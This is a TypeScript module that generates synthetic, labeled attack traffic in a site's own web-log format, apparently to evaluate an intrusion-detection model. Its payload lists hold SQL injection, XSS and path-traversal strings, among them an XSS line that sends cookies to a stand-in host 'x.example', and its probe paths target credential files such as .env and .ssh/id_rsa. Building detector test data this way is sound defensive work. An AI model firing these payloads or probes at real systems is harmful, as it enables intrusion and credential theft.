// Labeled attack episodes rendered in a site's own vocabulary, for judging a model on the site's
// own traffic (the promotion gate, `logstream evaluate --inject`, bench ml-real). Pure and seeded:
// the site's rows in, labeled rows out. The episodes use the site's real endpoints, paths, query
// parameters, status mix, response sizes and browser agents, addresses it has never seen, the
// same log format (no response time when the site's logs have none) and realistic timing.
import { createRandom, type Random } from '../common/random.js';
import { pathTemplate } from '../logs/pathTemplate.js';
import type { LogEvent } from '../logs/record.js';

export const ATTACK_KINDS = [
  'path_scan',
  'path_scan_slow',
  'path_scan_distributed',
  'credential_stuffing',
  'credential_stuffing_distributed',
  'request_flood',
  'scraping',
  'error_storm',
  'exfiltration',
  'sql_injection',
  'xss_probe',
  'path_traversal',
] as const;

export type AttackKind = (typeof ATTACK_KINDS)[number];

export function isAttackKind(value: string): value is AttackKind {
  return (ATTACK_KINDS as readonly string[]).includes(value);
}

/** One endpoint as the site serves it. */
export interface SiteEndpoint {
  method: string;
  template: string;
  /** Real request paths of the endpoint (a sample). */
  paths: string[];
  /** Query parameter names seen on it. */
  parameters: string[];
  rows: number;
  clients: number;
  /** Status → rows. */
  statuses: Map<number, number>;
  /** Median response size of its successful responses (all responses when none succeeded). */
  bytesMedian: number;
  /** Median response time, null when the site's logs carry none. */
  latencyMedianMs: number | null;
  /** A page (HTML, API, directory) rather than a static asset. */
  isPage: boolean;
}

export interface SiteProfile {
  startMs: number;
  endMs: number;
  rows: number;
  /** Endpoints answered successfully for at least two clients, busiest first. */
  endpoints: SiteEndpoint[];
  /** Share of rows with a response time: episodes carry one only when the site's logs do. */
  responseTimeShare: number;
  /** The site's most common browser user agents. */
  browserAgents: string[];
  /** Typical response of the site to a path it does not serve. */
  notFound: { status: number; bytes: number; latencyMs: number };
  /** Query parameter names seen anywhere on the site. */
  parameters: string[];
  /** Where the site takes logins: a POST endpoint with 401/403 answers, else any POST endpoint, else none. */
  login?: { endpoint: SiteEndpoint; failureStatuses: number[] };
  /** Addresses the site has seen: episodes never use them. */
  knownClients: Set<string>;
}

const STATIC_EXTENSION = /\.(?:png|jpe?g|gif|ico|svg|webp|css|js|mjs|map|woff2?|ttf|eot|otf|mp4|webm|mp3|pdf|zip|gz|tgz|jar|txt|xml)$/i;
const BROWSER = /^mozilla\/5\.0 \((?:windows|macintosh|x11|linux|iphone|ipad)/i;
const CRAWLER = /bot|crawl|spider|slurp|feed|curl|wget|python|java|go-http/i;

/** What the renderer needs to know about a site, from its own rows. */
export function siteProfile(events: readonly LogEvent[], knownClients: Iterable<string> = []): SiteProfile {
  if (events.length === 0) throw new RangeError('a site profile needs at least one row');
  const byEndpoint = new Map<
    string,
    { endpoint: SiteEndpoint; clients: Set<string>; bytes: number[]; okBytes: number[]; latency: number[] }
  >();
  const agents = new Map<string, number>();
  const parameters = new Map<string, number>();
  const notFoundBytes: number[] = [];
  const notFoundLatency: number[] = [];
  const known = new Set(knownClients);
  let startMs = Number.POSITIVE_INFINITY;
  let endMs = Number.NEGATIVE_INFINITY;
  let withResponseTime = 0;
  for (const event of events) {
    startMs = Math.min(startMs, event.timestampMs);
    endMs = Math.max(endMs, event.timestampMs);
    known.add(event.clientIp);
    if (event.responseTimeMs !== null) withResponseTime += 1;
    if (event.userAgent && BROWSER.test(event.userAgent) && !CRAWLER.test(event.userAgent))
      agents.set(event.userAgent, (agents.get(event.userAgent) ?? 0) + 1);
    if (event.status === 404) {
      notFoundBytes.push(event.responseBytes);
      if (event.responseTimeMs !== null) notFoundLatency.push(event.responseTimeMs);
    }
    const key = `${event.method} ${event.pathTemplate}`;
    let entry = byEndpoint.get(key);
    if (!entry) {
      entry = {
        endpoint: {
          method: event.method,
          template: event.pathTemplate,
          paths: [],
          parameters: [],
          rows: 0,
          clients: 0,
          statuses: new Map(),
          bytesMedian: 0,
          latencyMedianMs: null,
          isPage: !STATIC_EXTENSION.test(event.pathTemplate),
        },
        clients: new Set(),
        bytes: [],
        okBytes: [],
        latency: [],
      };
      byEndpoint.set(key, entry);
    }
    const { endpoint } = entry;
    endpoint.rows += 1;
    endpoint.statuses.set(event.status, (endpoint.statuses.get(event.status) ?? 0) + 1);
    if (entry.clients.size < 50) entry.clients.add(event.clientIp);
    if (endpoint.paths.length < 20 && !endpoint.paths.includes(event.path)) endpoint.paths.push(event.path);
    entry.bytes.push(event.responseBytes);
    if (event.status >= 200 && event.status < 300) entry.okBytes.push(event.responseBytes);
    if (event.responseTimeMs !== null) entry.latency.push(event.responseTimeMs);
    for (const name of parameterNames(event.query)) {
      parameters.set(name, (parameters.get(name) ?? 0) + 1);
      if (endpoint.parameters.length < 10 && !endpoint.parameters.includes(name)) endpoint.parameters.push(name);
    }
  }
  const endpoints: SiteEndpoint[] = [];
  for (const { endpoint, clients, bytes, okBytes, latency } of byEndpoint.values()) {
    endpoint.clients = clients.size;
    endpoint.bytesMedian = median(okBytes.length ? okBytes : bytes);
    endpoint.latencyMedianMs = latency.length ? median(latency) : null;
    const served = [...endpoint.statuses].some(([status]) => status >= 200 && status < 400);
    if (served && endpoint.clients >= 2) endpoints.push(endpoint);
  }
  endpoints.sort((a, b) => b.rows - a.rows || (a.template < b.template ? -1 : 1));
  if (endpoints.length === 0) {
    // A site with a single client or nothing served: its busiest endpoints are all there is.
    for (const { endpoint } of byEndpoint.values()) endpoints.push(endpoint);
    endpoints.sort((a, b) => b.rows - a.rows);
  }
  const posts = [...byEndpoint.values()].map((entry) => entry.endpoint).filter((endpoint) => endpoint.method === 'POST');
  const failures = (endpoint: SiteEndpoint) => (endpoint.statuses.get(401) ?? 0) + (endpoint.statuses.get(403) ?? 0);
  posts.sort((a, b) => failures(b) - failures(a) || b.rows - a.rows);
  const loginEndpoint = posts[0];
  const login = loginEndpoint
    ? {
        endpoint: loginEndpoint,
        failureStatuses: [401, 403].filter((status) => loginEndpoint.statuses.has(status)).concat(failures(loginEndpoint) ? [] : [401]),
      }
    : undefined;
  const typicalLatency = median(events.flatMap((event) => (event.responseTimeMs === null ? [] : [event.responseTimeMs])));
  return {
    startMs,
    endMs,
    rows: events.length,
    endpoints,
    responseTimeShare: withResponseTime / events.length,
    browserAgents: [...agents]
      .sort((a, b) => b[1] - a[1])
      .slice(0, 20)
      .map(([agent]) => agent),
    notFound: {
      status: 404,
      bytes: notFoundBytes.length ? median(notFoundBytes) : 300,
      latencyMs: notFoundLatency.length ? median(notFoundLatency) : Math.max(1, typicalLatency / 2 || 5),
    },
    parameters: [...parameters]
      .sort((a, b) => b[1] - a[1])
      .slice(0, 20)
      .map(([name]) => name),
    login,
    knownClients: known,
  };
}

export interface RenderOptions {
  seed: number;
  /** Episodes land in [startMs, endMs) (default: the profile's span). */
  startMs?: number;
  endMs?: number;
  /** Kinds to render, one episode each (default: all). */
  kinds?: readonly AttackKind[];
  /** Episodes per kind (default 1). */
  episodesPerKind?: number;
}

/** Labeled attack rows (label = kind), in time order. */
export function renderEpisodes(profile: SiteProfile, options: RenderOptions): LogEvent[] {
  const random = createRandom(options.seed ^ 0x1a7ec7);
  const startMs = options.startMs ?? profile.startMs;
  const endMs = Math.max(startMs + 60_000, options.endMs ?? profile.endMs);
  const addresses = new AddressBook(new Set(profile.knownClients), random);
  const rows: LogEvent[] = [];
  for (const kind of options.kinds ?? ATTACK_KINDS) {
    for (let episode = 0; episode < (options.episodesPerKind ?? 1); episode += 1) {
      const plan = EPISODES[kind](new Renderer(profile, random, addresses));
      const durationMs = Math.min(plan.durationMs, 0.9 * (endMs - startMs));
      const offsetMs = startMs + random.next() * (endMs - startMs - durationMs);
      for (const request of plan.requests) {
        rows.push(toEvent(kind, Math.round(offsetMs + request.atFraction * durationMs), request, profile, random));
      }
    }
  }
  return rows.sort((a, b) => a.timestampMs - b.timestampMs);
}

/** The site's rows with the episodes merged in by time (both in time order; stable: site rows first on ties). */
export function injectEpisodes(rows: readonly LogEvent[], episodes: readonly LogEvent[]): LogEvent[] {
  const out: LogEvent[] = new Array(rows.length + episodes.length);
  let site = 0;
  let attack = 0;
  for (let index = 0; index < out.length; index += 1) {
    const takeSite = attack >= episodes.length || (site < rows.length && rows[site]!.timestampMs <= episodes[attack]!.timestampMs);
    out[index] = takeSite ? rows[site++]! : episodes[attack++]!;
  }
  return out;
}

/** A request of an episode, placed at a fraction of the episode's duration. */
interface PlannedRequest {
  atFraction: number;
  clientIp: string;
  method: string;
  path: string;
  query: string | null;
  status: number;
  responseBytes: number;
  /** Response time if the site's logs had one. */
  latencyMs: number;
  userAgent: string | null;
}

interface EpisodePlan {
  durationMs: number;
  requests: PlannedRequest[];
}

function toEvent(kind: AttackKind, timestampMs: number, request: PlannedRequest, profile: SiteProfile, random: Random): LogEvent {
  const path = request.path.startsWith('/') ? request.path : `/${request.path}`;
  return {
    timestampMs,
    clientIp: request.clientIp,
    method: request.method,
    path,
    query: request.query,
    pathTemplate: pathTemplate(path),
    status: request.status,
    responseTimeMs: random.next() < profile.responseTimeShare ? Math.round(request.latencyMs * 10) / 10 : null,
    responseBytes: Math.max(0, Math.round(request.responseBytes)),
    referrer: null,
    userAgent: request.userAgent,
    label: kind,
  };
}

/** Public IPv4 addresses the site has not seen, in realistic hosting and residential ranges. */
class AddressBook {
  constructor(
    private readonly known: Set<string>,
    private readonly random: Random,
  ) {}

  next(): string {
    for (;;) {
      const first = this.random.pick(PUBLIC_FIRST_OCTETS);
      const address = `${first}.${this.random.int(0, 255)}.${this.random.int(0, 255)}.${this.random.int(1, 254)}`;
      if (!this.known.has(address)) {
        this.known.add(address);
        return address;
      }
    }
  }

  /** Addresses of one /24, as a botnet's or a cloud tenant's neighbours often are. */
  neighbours(count: number): string[] {
    const prefix = this.next().split('.').slice(0, 3).join('.');
    const out = new Set<string>();
    while (out.size < Math.min(count, 200)) {
      const address = `${prefix}.${this.random.int(1, 254)}`;
      if (!this.known.has(address)) out.add(address);
    }
    for (const address of out) this.known.add(address);
    return [...out];
  }
}

const PUBLIC_FIRST_OCTETS = [
  5, 23, 31, 37, 45, 46, 51, 62, 77, 78, 79, 80, 82, 85, 88, 91, 93, 94, 101, 103, 104, 106, 109, 112, 114, 116, 118, 121, 124, 134, 139,
  141, 142, 143, 146, 147, 149, 151, 154, 156, 157, 159, 161, 162, 164, 165, 167, 170, 171, 176, 178, 180, 181, 185, 186, 187, 188, 189,
  190, 191, 193, 194, 195, 196, 197, 200, 201, 203, 207, 209, 210, 211, 212, 213, 216, 217, 218, 220, 222,
] as const;

/** Shared drawing helpers over one site profile. */
class Renderer {
  constructor(
    readonly profile: SiteProfile,
    readonly random: Random,
    readonly addresses: AddressBook,
  ) {}

  /** A served endpoint, favouring busy ones; pages only when asked. */
  endpoint(pagesOnly = false): SiteEndpoint {
    const candidates = pagesOnly ? this.profile.endpoints.filter((endpoint) => endpoint.isPage) : this.profile.endpoints;
    const list = candidates.length ? candidates : this.profile.endpoints;
    // Square of a uniform: most picks among the busiest, some from the long tail.
    return list[Math.floor(this.random.next() ** 2 * list.length)]!;
  }

  realPath(endpoint: SiteEndpoint): string {
    return this.random.pick(endpoint.paths.length ? endpoint.paths : ['/']);
  }

  /** The endpoint's usual status (drawn from its mix of non-error answers). */
  usualStatus(endpoint: SiteEndpoint): number {
    const served = [...endpoint.statuses].filter(([status]) => status < 400);
    if (served.length === 0) return 200;
    let roll = this.random.next() * served.reduce((sum, [, count]) => sum + count, 0);
    for (const [status, count] of served) {
      roll -= count;
      if (roll <= 0) return status;
    }
    return served[0]![0];
  }

  bytesFor(endpoint: SiteEndpoint, status: number): number {
    if (status === 304 || status === 204) return 0;
    if (status >= 400) return this.random.logNormal(Math.max(150, this.profile.notFound.bytes * 0.6), 0.3);
    return this.random.logNormal(Math.max(1, endpoint.bytesMedian), 0.25);
  }

  latencyFor(endpoint: SiteEndpoint | undefined): number {
    const base = endpoint?.latencyMedianMs ?? this.profile.notFound.latencyMs * 2;
    return this.random.logNormal(Math.max(1, base), 0.35);
  }

  /** A browser agent of the site's own visitors, or a common one. */
  browserAgent(): string {
    return this.profile.browserAgents.length && this.random.chance(0.8)
      ? this.random.pick(this.profile.browserAgents)
      : this.random.pick(COMMON_BROWSERS);
  }

  toolAgent(): string | null {
    return this.random.pick(TOOL_AGENTS);
  }

  /** Attackers mostly hide behind a browser's agent; the rest announce their tool. */
  attackerAgent(toolShare = 0.4): string | null {
    return this.random.chance(toolShare) ? this.toolAgent() : this.browserAgent();
  }

  /** Times (fractions of the episode) of `count` requests arriving at a steady rate with jitter. */
  steady(count: number): number[] {
    const gaps = Array.from({ length: count }, () => this.random.exponential(1));
    const total = gaps.reduce((sum, gap) => sum + gap, 0);
    let at = 0;
    return gaps.map((gap) => {
      const fraction = at / total;
      at += gap;
      return fraction;
    });
  }

  /** A probe path: the usual suspects of every scanner, or one derived from the site's own paths. */
  probePath(): string {
    if (this.random.chance(0.7)) return this.random.pick(PROBE_PATHS);
    const real = this.realPath(this.endpoint());
    const directory = real.slice(0, real.lastIndexOf('/') + 1) || '/';
    const variants = [
      `${real}.bak`,
      `${real}~`,
      `${real}.old`,
      `${real}.swp`,
      `${directory}.git/config`,
      `${directory}backup.zip`,
      `${directory}admin/`,
      `${directory}config.php`,
      `${directory}.env`,
      `${real.replace(/\.[a-z0-9]+$/i, '')}.php`,
    ];
    return this.random.pick(variants);
  }

  /** How a site answers a probe for something it does not serve. */
  probeAnswer(): { status: number; bytes: number } {
    const roll = this.random.next();
    if (roll < 0.78) return { status: this.profile.notFound.status, bytes: this.random.logNormal(this.profile.notFound.bytes, 0.1) };
    if (roll < 0.88) return { status: 403, bytes: this.random.logNormal(300, 0.2) };
    if (roll < 0.93) return { status: 301, bytes: this.random.logNormal(250, 0.2) };
    if (roll < 0.97) return { status: 400, bytes: this.random.logNormal(350, 0.2) };
    // Sites that answer everything with their home page.
    const home = this.profile.endpoints.find((endpoint) => endpoint.template === '/') ?? this.endpoint();
    return { status: 200, bytes: this.bytesFor(home, 200) };
  }

  /** Puts a payload into a real request of the site: into a query parameter or a path segment. */
  withPayload(payload: string, inPathShare: number): { endpoint: SiteEndpoint; path: string; query: string | null } {
    const endpoint = this.endpoint(true);
    const path = this.realPath(endpoint);
    const encoded = this.encode(payload);
    if (this.random.chance(inPathShare)) {
      const segments = path.split('/');
      const last = segments.length - 1;
      if (segments[last] && this.random.chance(0.5)) segments[last] = encoded;
      else segments.push(encoded);
      return { endpoint, path: segments.join('/') || '/', query: null };
    }
    const names = endpoint.parameters.length ? endpoint.parameters : this.profile.parameters;
    const name = names.length && this.random.chance(0.7) ? this.random.pick(names) : this.random.pick(COMMON_PARAMETERS);
    const others = endpoint.parameters.filter((other) => other !== name && this.random.chance(0.3)).map((other) => `${other}=1`);
    return { endpoint, path, query: [...others, `${name}=${encoded}`].join('&') };
  }

  /** The ways attack tools encode a payload in a URL. */
  encode(payload: string): string {
    const roll = this.random.next();
    if (roll < 0.35) return encodeURIComponent(payload);
    if (roll < 0.6) return payload.replace(/ /g, '+').replace(/[<>"'#&?%\\^`{|}]/g, (character) => percentEscape(character));
    if (roll < 0.75) return encodeURIComponent(encodeURIComponent(payload));
    if (roll < 0.9) return payload.replace(/ /g, '%20');
    return payload.replace(/ /g, '/**/').replace(/[<>"#&?%]/g, (character) => percentEscape(character));
  }
}

const percentEscape = (character: string) => `%${character.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;

type EpisodeRenderer = (r: Renderer) => EpisodePlan;

const EPISODES: Record<AttackKind, EpisodeRenderer> = {
  path_scan(r) {
    const clientIp = r.addresses.next();
    const agent = r.attackerAgent(0.6);
    const count = r.random.int(150, 300);
    const perSecond = 2 + 13 * r.random.next();
    return {
      durationMs: (count / perSecond) * 1000,
      requests: r.steady(count).map((atFraction) => probe(r, atFraction, clientIp, agent)),
    };
  },

  path_scan_slow(r) {
    const clientIp = r.addresses.next();
    const agent = r.attackerAgent(0.3);
    const count = r.random.int(40, 90);
    const gapSeconds = 15 + 75 * r.random.next();
    return {
      durationMs: count * gapSeconds * 1000,
      requests: r.steady(count).map((atFraction) => probe(r, atFraction, clientIp, agent)),
    };
  },

  path_scan_distributed(r) {
    const clients = r.random.chance(0.5) ? r.addresses.neighbours(r.random.int(5, 20)) : manyAddresses(r, r.random.int(5, 20));
    const count = r.random.int(120, 260);
    return {
      durationMs: r.random.int(20, 60) * 60_000,
      requests: r.steady(count).map((atFraction) => probe(r, atFraction, r.random.pick(clients), r.attackerAgent(0.3))),
    };
  },

  credential_stuffing(r) {
    const clientIp = r.addresses.next();
    const agent = r.random.chance(0.5) ? r.browserAgent() : r.toolAgent();
    const count = r.random.int(150, 400);
    const perSecond = 1 + 9 * r.random.next();
    return {
      durationMs: (count / perSecond) * 1000,
      requests: r.steady(count).map((atFraction) => attempt(r, atFraction, clientIp, agent)),
    };
  },

  credential_stuffing_distributed(r) {
    const clients = manyAddresses(r, r.random.int(15, 60));
    const agents = new Map(clients.map((client) => [client, r.random.chance(0.7) ? r.browserAgent() : r.toolAgent()] as const));
    const count = r.random.int(150, 350);
    return {
      durationMs: r.random.int(30, 90) * 60_000,
      requests: r.steady(count).map((atFraction) => {
        const clientIp = r.random.pick(clients);
        return attempt(r, atFraction, clientIp, agents.get(clientIp)!);
      }),
    };
  },

  request_flood(r) {
    const clientIp = r.addresses.next();
    const agent = r.random.chance(0.5) ? r.browserAgent() : r.toolAgent();
    const target = r.profile.endpoints[Math.floor(r.random.next() * Math.min(5, r.profile.endpoints.length))]!;
    const path = r.realPath(target);
    const count = r.random.int(300, 800);
    const perSecond = 20 + 80 * r.random.next();
    return {
      durationMs: (count / perSecond) * 1000,
      requests: r.steady(count).map((atFraction) => {
        const overwhelmed = atFraction > 0.6 && r.random.chance(0.15);
        const status = overwhelmed ? r.random.pick([429, 503]) : r.usualStatus(target);
        return {
          atFraction,
          clientIp,
          method: target.method === 'HEAD' ? 'GET' : target.method,
          path,
          query: null,
          status,
          responseBytes: r.bytesFor(target, status),
          latencyMs: overwhelmed ? r.random.logNormal(2, 0.3) : r.latencyFor(target),
          userAgent: agent,
        };
      }),
    };
  },

  scraping(r) {
    const clientIp = r.addresses.next();
    const agent = r.random.chance(0.6) ? r.random.pick(SCRAPER_AGENTS) : r.browserAgent();
    const pages = r.profile.endpoints.filter((endpoint) => endpoint.isPage && endpoint.method === 'GET');
    const list = pages.length ? pages : r.profile.endpoints;
    const count = r.random.int(200, 400);
    const perSecond = 1 + 4 * r.random.next();
    return {
      durationMs: (count / perSecond) * 1000,
      requests: r.steady(count).map((atFraction, index) => {
        // Walks the site page after page, as a crawler does, not the popular few.
        const endpoint = list[(index * 7919 + r.random.int(0, 3)) % list.length]!;
        const status = r.usualStatus(endpoint);
        return {
          atFraction,
          clientIp,
          method: 'GET',
          path: r.realPath(endpoint),
          query: null,
          status,
          responseBytes: r.bytesFor(endpoint, status),
          latencyMs: r.latencyFor(endpoint),
          userAgent: agent,
        };
      }),
    };
  },

  error_storm(r) {
    const pages = r.profile.endpoints.filter((endpoint) => endpoint.isPage).slice(0, 10);
    const target = r.random.pick(pages.length ? pages : r.profile.endpoints.slice(0, 10));
    const failure = r.random.pick([500, 502, 503, 504]);
    const clients = manyAddresses(r, r.random.int(30, 100));
    const agents = new Map(clients.map((client) => [client, r.browserAgent()] as const));
    const count = r.random.int(150, 300);
    return {
      durationMs: r.random.int(5, 20) * 60_000,
      requests: r.steady(count).map((atFraction) => {
        const clientIp = r.random.pick(clients);
        const status = r.random.chance(0.8) ? failure : r.random.pick([500, 502, 503, 504]);
        return {
          atFraction,
          clientIp,
          method: target.method,
          path: r.realPath(target),
          query: null,
          status,
          responseBytes: r.random.logNormal(status === 500 ? 500 : 200, 0.2),
          // A gateway timeout waits for the upstream; a refused upstream fails at once.
          latencyMs: status === 504 ? r.random.logNormal(30_000, 0.05) : status === 500 ? r.latencyFor(target) : r.random.logNormal(3, 0.4),
          userAgent: agents.get(clientIp)!,
        };
      }),
    };
  },

  exfiltration(r) {
    const clientIp = r.addresses.next();
    const agent = r.attackerAgent(0.5);
    const count = r.random.int(8, 30);
    return {
      durationMs: r.random.int(2, 30) * 60_000,
      requests: r.steady(count).map((atFraction) => {
        const endpoint = r.endpoint(true);
        const names = endpoint.parameters.length ? endpoint.parameters : ['limit', 'page_size', 'export', 'per_page'];
        const bytes = Math.max(20_000_000, endpoint.bytesMedian * (200 + 4800 * r.random.next()));
        return {
          atFraction,
          clientIp,
          method: 'GET',
          path: r.realPath(endpoint),
          query: r.random.chance(0.7) ? `${r.random.pick(names)}=${r.random.pick(['100000', '999999', 'all', '-1'])}` : null,
          status: 200,
          responseBytes: bytes,
          // Streaming tens or hundreds of megabytes takes seconds.
          latencyMs: bytes / (20_000 + 80_000 * r.random.next()),
          userAgent: agent,
        };
      }),
    };
  },

  sql_injection: (r) => injectionProbes(r, SQL_PAYLOADS, 0.25),
  xss_probe: (r) => injectionProbes(r, SCRIPT_PAYLOADS, 0.2),
  path_traversal: (r) => injectionProbes(r, TRAVERSAL_PAYLOADS, 0.5),
};

function manyAddresses(r: Renderer, count: number): string[] {
  return Array.from({ length: count }, () => r.addresses.next());
}

function probe(r: Renderer, atFraction: number, clientIp: string, userAgent: string | null): PlannedRequest {
  const answer = r.probeAnswer();
  return {
    atFraction,
    clientIp,
    method: r.random.chance(0.9) ? 'GET' : r.random.pick(['POST', 'HEAD']),
    path: r.probePath(),
    query: null,
    status: answer.status,
    responseBytes: answer.bytes,
    latencyMs: r.random.logNormal(r.profile.notFound.latencyMs, 0.4),
    userAgent,
  };
}

function attempt(r: Renderer, atFraction: number, clientIp: string, userAgent: string | null): PlannedRequest {
  const login = r.profile.login;
  if (!login) {
    // No login in the site's logs: the bots try the usual login paths and get what the site
    // answers to paths it does not serve.
    const roll = r.random.next();
    const status = roll < 0.75 ? r.profile.notFound.status : roll < 0.9 ? 405 : 403;
    return {
      atFraction,
      clientIp,
      method: 'POST',
      path: r.random.pick(LOGIN_PATHS),
      query: null,
      status,
      responseBytes: status === 404 ? r.profile.notFound.bytes : r.random.logNormal(300, 0.2),
      latencyMs: r.random.logNormal(r.profile.notFound.latencyMs, 0.3),
      userAgent,
    };
  }
  const roll = r.random.next();
  const status = roll < 0.92 ? r.random.pick(login.failureStatuses) : roll < 0.96 ? r.random.pick([200, 302]) : 429;
  return {
    atFraction,
    clientIp,
    method: 'POST',
    path: r.realPath(login.endpoint),
    query: null,
    status,
    responseBytes: r.bytesFor(login.endpoint, status),
    latencyMs: status === 429 ? r.random.logNormal(3, 0.3) : r.latencyFor(login.endpoint),
    userAgent,
  };
}

function injectionProbes(r: Renderer, payloads: readonly string[], inPathShare: number): EpisodePlan {
  const clients = r.random.chance(0.7) ? [r.addresses.next()] : manyAddresses(r, r.random.int(2, 4));
  const agent = r.attackerAgent(0.5);
  const count = r.random.int(60, 200);
  const perSecond = 0.2 + 2.8 * r.random.next();
  return {
    durationMs: (count / perSecond) * 1000,
    requests: r.steady(count).map((atFraction) => {
      const { endpoint, path, query } = r.withPayload(r.random.pick(payloads), inPathShare);
      const roll = r.random.next();
      // Most servers ignore what they do not understand; some fail, some are behind a filter.
      const status = roll < 0.65 ? r.usualStatus(endpoint) : roll < 0.75 ? 500 : roll < 0.88 ? 403 : roll < 0.95 ? 400 : 404;
      return {
        atFraction,
        clientIp: r.random.pick(clients),
        method: endpoint.method === 'POST' ? 'POST' : 'GET',
        path,
        query,
        status,
        responseBytes: r.bytesFor(endpoint, status),
        latencyMs: r.latencyFor(endpoint),
        userAgent: agent,
      };
    }),
  };
}

function parameterNames(query: string | null): string[] {
  if (!query) return [];
  const names: string[] = [];
  for (const pair of query.split('&')) {
    const name = pair.split('=', 1)[0]!;
    if (/^[A-Za-z_][\w.-]{0,30}$/.test(name)) names.push(name);
  }
  return names;
}

function median(values: readonly number[]): number {
  if (values.length === 0) return 0;
  const sorted = Float64Array.from(values).sort();
  const middle = sorted.length >> 1;
  return sorted.length % 2 ? sorted[middle]! : (sorted[middle - 1]! + sorted[middle]!) / 2;
}

// What scanners probe for on any site: CMS logins and admin panels, leaked configuration and
// version-control files, backups, framework debug endpoints, known-vulnerable scripts.
const PROBE_PATHS = [
  '/.env',
  '/.env.local',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.hg/hgrc',
  '/.DS_Store',
  '/.htaccess',
  '/.htpasswd',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/wp-login.php',
  '/wp-admin/',
  '/wp-admin/install.php',
  '/wp-content/plugins/revslider/temp/update_extract/',
  '/wp-includes/wlwmanifest.xml',
  '/xmlrpc.php',
  '/phpmyadmin/',
  '/phpMyAdmin/index.php',
  '/pma/',
  '/myadmin/',
  '/adminer.php',
  '/admin/',
  '/admin/login.php',
  '/administrator/index.php',
  '/manager/html',
  '/server-status',
  '/server-info',
  '/cgi-bin/test-cgi',
  '/cgi-bin/luci',
  '/config.php',
  '/config.json',
  '/config.yml',
  '/configuration.php',
  '/settings.py',
  '/web.config',
  '/backup.zip',
  '/backup.tar.gz',
  '/backup.sql',
  '/db.sql',
  '/dump.sql',
  '/database.sql',
  '/www.zip',
  '/site.tar.gz',
  '/old/',
  '/test/',
  '/tmp/',
  '/actuator/env',
  '/actuator/heapdump',
  '/api/swagger.json',
  '/swagger-ui.html',
  '/v2/api-docs',
  '/graphql',
  '/console',
  '/solr/admin/',
  '/jenkins/login',
  '/owa/auth/logon.aspx',
  '/remote/login',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/boaform/admin/formLogin',
  '/HNAP1/',
  '/shell.php',
  '/cmd.php',
  '/info.php',
  '/phpinfo.php',
  '/test.php',
  '/install.php',
  '/setup.php',
  '/debug/default/view',
  '/_profiler/phpinfo',
  '/telescope/requests',
  '/elmah.axd',
  '/trace.axd',
  '/login.action',
  '/struts2-showcase/',
  '/druid/index.html',
  '/nacos/',
  '/.well-known/../.env',
] as const;

const LOGIN_PATHS = ['/login', '/wp-login.php', '/user/login', '/account/login', '/api/login', '/auth/login', '/signin', '/api/v1/auth'];

const COMMON_PARAMETERS = ['id', 'q', 'search', 'page', 'file', 'path', 'url', 'redirect', 'name', 'cat', 'item', 'lang', 'template'];

const COMMON_BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
];

const TOOL_AGENTS = [
  'python-requests/2.31.0',
  'curl/8.5.0',
  'Go-http-client/1.1',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.0 zgrab/0.x',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Wget/1.21.4',
  'okhttp/4.12.0',
  null,
] as const;

const SCRAPER_AGENTS = [
  'python-requests/2.31.0',
  'Scrapy/2.11.0 (+https://scrapy.org)',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/122.0.0.0 Safari/537.36',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Java/17.0.2',
  'aiohttp/3.9.3',
];

// Probes in the shapes attack tools and people use, in many encodings (see Renderer.encode).
const SQL_PAYLOADS = [
  "' OR '1'='1",
  "1' OR 1=1-- -",
  '1 OR 1=1',
  "' UNION SELECT NULL,NULL,NULL-- -",
  '1 UNION ALL SELECT username,password FROM users',
  '-1 UNION SELECT 1,2,table_name FROM information_schema.tables',
  '1; DROP TABLE users',
  "1' AND SLEEP(5)-- -",
  '1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)',
  "'; WAITFOR DELAY '0:0:5'--",
  "1' AND extractvalue(1,concat(0x7e,version()))-- -",
  "admin'--",
  "1) OR ('1'='1",
  "' OR 'x'='x",
  "1' ORDER BY 10-- -",
  '1 AND 1=2 UNION SELECT @@version',
  "1' AND benchmark(5000000,md5(1))#",
  "' or 1=1 limit 1 -- -+",
] as const;

const SCRIPT_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  "'><iframe src=javascript:alert(1)>",
  "<body onload=alert('xss')>",
  '"><img src=1 onerror=prompt(1)>',
  '<ScRiPt>confirm(1)</ScRiPt>',
  '"-alert(1)-"',
  '<details open ontoggle=alert(1)>',
  "'\"><svg onload=fetch('//x.example/'+document.cookie)>",
] as const;

const TRAVERSAL_PAYLOADS = [
  '../../../../etc/passwd',
  '../../../../../../etc/shadow',
  '....//....//....//etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/..;/..;/..;/etc/passwd',
  '../../../../proc/self/environ',
  'file:///etc/passwd',
  'php://filter/convert.base64-encode/resource=index.php',
  '../../../../var/log/apache2/access.log',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
  '../../../../boot.ini',
  '/%2e%2e/%2e%2e/%2e%2e/etc/hosts',
] as const;
